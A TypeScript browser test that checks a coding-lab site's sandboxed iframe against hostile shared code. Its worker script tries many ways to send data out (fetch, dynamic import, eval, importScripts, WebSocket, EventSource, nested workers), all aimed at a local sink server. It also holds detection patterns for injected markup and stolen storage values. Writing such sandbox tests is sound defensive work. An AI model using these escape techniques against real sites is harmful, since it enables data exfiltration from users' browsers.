/** A snapshot whose code means harm: nothing leaves the frame, nothing in the page runs. */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type OpenBrowser, openBrowser } from '../support/browser.ts'
import { hostileCode } from './hostile-code.ts'
import { LAB, openLab, pasteCode } from './lab-page.ts'
import { SOLUTION } from './learner-code.ts'
import { ask, SNAPSHOT } from './shared-runs.ts'

const WAIT = { timeout: 60_000 }

let theirs: OpenBrowser
let sharer: Page
let mine: OpenBrowser
let reader: Page

beforeAll(async () => {
  const viewport = { width: 1440, height: 900 }
  ;[theirs, mine] = await Promise.all([openBrowser(), openBrowser({ viewport })])
  ;[sharer, reader] = await Promise.all([theirs.context.newPage(), mine.context.newPage()])
  await sharer.goto('/labs')
})
afterAll(() => Promise.all([theirs.close(), mine.close()]))

describe('code that means harm', () => {
  let sink: Server
  const reached: string[] = []

  beforeAll(async () => {
    sink = createServer((request, response) => {
      reached.push(request.url ?? '')
      response.setHeader('access-control-allow-origin', '*').end('')
    })
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve))
  })
  afterAll(() => sink.close())

  it('gets nothing out, runs nothing in the page, and leaves draft and session alone', async () => {
    const { port } = sink.address() as AddressInfo
    const host = `http://127.0.0.1:${port}`
    const { body } = await ask(sharer, '/api/shared-runs', 'POST', {
      ...SNAPSHOT,
      source: hostileCode(host),
    })
    expect(body.error).toBeUndefined()

    // The reader has work of their own and somebody's session.
    await openLab(reader)
    await pasteCode(reader, SOLUTION)
    await reader.getByText('Saved', { exact: true }).waitFor(WAIT)
    const before = await stateOf(reader)
    const dialogs: string[] = []
    const outside: string[] = []
    reader.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    // What the policy stops never leaves the browser; what it lets out would end here.
    reader.on('requestfinished', (request) => {
      if (!request.url().startsWith(new URL(reader.url()).origin)) outside.push(request.url())
    })

    await reader.goto(`${LAB}/run/${body.id}`)
    const title = await reader.title()
    const url = reader.url()
    await reader.getByRole('button', { name: 'Run their code' }).click()
    const panel = reader.getByRole('complementary', { name: 'What if' })
    await panel
      .getByText(/^Run A: |broke down|cannot be/)
      .first()
      .waitFor(WAIT)
    // A run by hand sends more messages into the frame, which the code bends.
    const byHand = reader.getByRole('button', { name: 'By hand', exact: true })
    if (await byHand.isVisible()) {
      await byHand.click()
      await reader
        .getByRole('complementary', { name: 'By hand' })
        .getByText(/picked$|broke down|cannot be|ran for more than/)
        .first()
        .waitFor(WAIT)
      await reader
        .getByRole('listbox')
        .focus({ timeout: 2_000 })
        .catch(() => {})
      await reader.keyboard.press('Enter')
      await reader
        .getByRole('complementary', { name: 'By hand' })
        .getByText(/2 picked$|broke down|cannot be|ran for more than/)
        .first()
        .waitFor(WAIT)
    }

    // The page lives, is where it was, and has nothing of theirs in it but text.
    expect(await reader.title()).toBe(title)
    expect(reader.url()).toBe(url)
    expect(mine.context.pages()).toHaveLength(2)
    expect(dialogs).toEqual([])
    const inPage = await reader.evaluate(() => ({
      polluted: ({} as { polluted?: unknown }).polluted ?? null,
      foreign: document.querySelectorAll('img[src="x"], iframe[src*="127.0.0.1:"], svg[onload]')
        .length,
      passed: document.body.textContent?.includes('All 6 checks hold') ?? false,
    }))
    expect(inPage).toEqual({ polluted: null, foreign: 0, passed: false })
    expect(outside.filter((one) => !one.startsWith('blob:'))).toEqual([])
    expect(reached).toEqual([])

    // And the work is as it was.
    await openLab(reader)
    await reader.locator('.view-line').filter({ hasText: 'RaftNode' }).first().waitFor()
    expect(await stateOf(reader)).toEqual(before)
  })

  it('has no way out of the frame even where nothing was taken away from it before', async () => {
    reached.length = 0
    const { port } = sink.address() as AddressInfo
    const told = await reader.evaluate(bareFrame, waysOut(`http://127.0.0.1:${port}`))
    expect(told.at(-1)).toBe('end')
    expect(told.length).toBeGreaterThan(8)
    expect(told.filter((one) => / got /.test(one))).toEqual([])
    expect(reached).toEqual([])
  })
})

/** Runs a worker's text in the frame as it is, without the kit; returns what it said. */
async function bareFrame(text: string): Promise<readonly string[]> {
  const frame = document.createElement('iframe')
  frame.setAttribute('sandbox', 'allow-scripts')
  frame.src = '/run-frame'
  document.body.append(frame)
  await new Promise((resolve) => frame.addEventListener('load', resolve))
  const [run, errors] = [new MessageChannel(), new MessageChannel()]
  const told: string[] = []
  await new Promise<void>((resolve) => {
    run.port1.onmessage = ({ data }: MessageEvent<string>) => {
      told.push(data)
      if (data === 'end') resolve()
    }
    frame.contentWindow?.postMessage(text, '*', [run.port2, errors.port2])
  })
  try {
    told.unshift(`the page got ${frame.contentWindow?.document.title ?? ''}`)
  } catch {
    told.unshift('the page finds the frame shut')
  }
  frame.remove()
  return told
}

/** Each way out, tried with all that a worker has. */
function waysOut(sink: string): string {
  return `onmessage = async ({ ports: [port] }) => {
    const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
    const answered = (socket) => new Promise((done, failed) => {
      socket.onopen = () => done('an answer')
      socket.onerror = () => failed('nothing')
    })
    const ways = {
      fetch: () => fetch('${sink}/fetch', { mode: 'no-cors' }),
      'own site': () => fetch('/api/attempts'),
      import: () => import('${sink}/import'),
      'import by eval': () => (0, eval)('import("${sink}/eval")'),
      'import by a module': () => import(blob('await import("${sink}/nested"); export default 1')),
      scripts: () => importScripts('${sink}/scripts'),
      socket: () => answered(new WebSocket('${sink.replace('http', 'ws')}/socket')),
      events: () => answered(new EventSource('${sink}/events')),
      transport: () => new WebTransport('https://127.0.0.1:1/').ready,
      database: () => new Promise((done, failed) => {
        const asked = indexedDB.open('x')
        asked.onsuccess = done
        asked.onerror = failed
      }),
      caches: () => caches.open('x'),
      worker: () => new Promise((done, failed) => {
        const inner = new Worker(blob('fetch("${sink}/inner", { mode: "no-cors" }).then(() => postMessage(1), () => postMessage(0))'))
        inner.onmessage = ({ data }) => (data === 1 ? done('an answer') : failed('nothing'))
        inner.onerror = failed
      }),
    }
    for (const [name, go] of Object.entries(ways)) {
      try {
        port.postMessage(name + ' got ' + (await go()))
      } catch (error) {
        port.postMessage(name + ' failed')
      }
    }
    port.postMessage('end')
  }`
}

/** What the reader has: their session, what the browser keeps, and what the server keeps. */
function stateOf(page: Page) {
  return page.evaluate(async () => {
    const json = async (path: string) => (await fetch(path)).json() as Promise<unknown>
    const kept = Object.entries(localStorage)
      .filter(([key]) => /draft/.test(key))
      .map(([key, value]) => [key, value.includes('STOLEN') || value.includes('127.0.0.1')])
    return {
      kept,
      attempts: await json('/api/attempts?lab=raft&step=03-election'),
      source: document.querySelector('.view-lines')?.textContent?.includes('RaftNode'),
    }
  })
}
